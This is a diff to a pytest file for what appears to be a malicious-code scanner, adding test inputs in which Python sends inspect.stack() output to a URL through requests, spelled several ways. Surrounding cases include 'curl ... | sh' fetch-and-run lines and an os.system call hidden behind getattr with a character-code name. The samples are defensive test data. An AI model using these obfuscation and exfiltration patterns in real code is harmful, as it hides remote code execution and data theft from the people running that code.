@@ -268,6 +268,8 @@ def test_a_code_object_compiled_on_a_hit_line_is_followed_to_where_it_runs(
         '"""Install it with: curl -fsSL https://example.org/x.sh | sh"""\n',
         "USAGE = 'python -c \"import caplet\"'\nHELP = ['python3', '-c', 'print(1)']\n",
         "import sys\nWHERE = sys.executable\nFLAGS = ['-c']\n",
+        # a stack that is not the interpreter's (inspect.stack is reconnaissance)
+        "import numpy as np, requests\nx = np.stack(parts)\nrequests.get(URL)\n",
     ],
 )
 def test_one_side_of_a_rule_alone_needs_nothing(prefilter: Prefilter, text: str) -> None:
@@ -298,6 +300,11 @@ def test_one_side_of_a_rule_alone_needs_nothing(prefilter: Prefilter, text: str)
         "getattr(_o, _N)('curl -s http://203.0.113.9/i | sh')\n",
         "import os as _o\n_N = '%c%c%c%c%c%c' % (115, 121, 115, 116, 101, 109)\n"
         "getattr(_o, _N)('pip install evil')\n",
+        "import inspect, requests\nrequests.post(URL, data=str(inspect.stack()))\n",
+        "from inspect import stack\nimport requests\nrequests.post(URL, data=str(stack()))\n",
+        "import inspect as i\nimport requests\nrequests.post(URL, data=str(i.stack()))\n",
+        "import inspect\nimport requests\nf = inspect\nrequests.post(URL, data=str(f.stack()))\n",
+        "import requests\nrequests.post(URL, data=str(__import__('inspect').stack()))\n",
     ],
 )
 def test_both_sides_of_a_rule_need_the_ast(prefilter: Prefilter, text: str) -> None:
